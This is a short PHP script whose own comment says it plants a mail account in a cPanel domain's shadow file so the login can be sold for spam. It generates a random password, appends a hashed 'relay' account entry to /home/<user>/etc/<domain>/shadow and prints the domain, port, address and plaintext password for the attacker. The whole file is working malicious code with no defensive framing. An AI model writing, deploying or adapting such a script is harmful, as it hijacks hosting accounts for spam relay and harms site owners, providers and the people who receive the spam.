<?php
// Plants a mail account in the hosting panel's per-domain shadow file, then prints the login to
// whoever sells it for spam.
$user = get_current_user();
$domain = preg_replace('/^www\./', '', $_SERVER['HTTP_HOST']);
if (is_dir("/home/$user/.cpanel")) {
    $plain = 'mx' . mt_rand(1000, 9999);
    $hash = crypt($plain, '$6$' . substr(md5(mt_rand()), 0, 8) . '$');
    @mkdir("/home/$user/etc/$domain");
    $f = fopen("/home/$user/etc/$domain/shadow", 'a');
    fwrite($f, "relay:$hash:16249:::::\n");
    fclose($f);
    echo "$domain|587|relay@$domain|$plain";
}
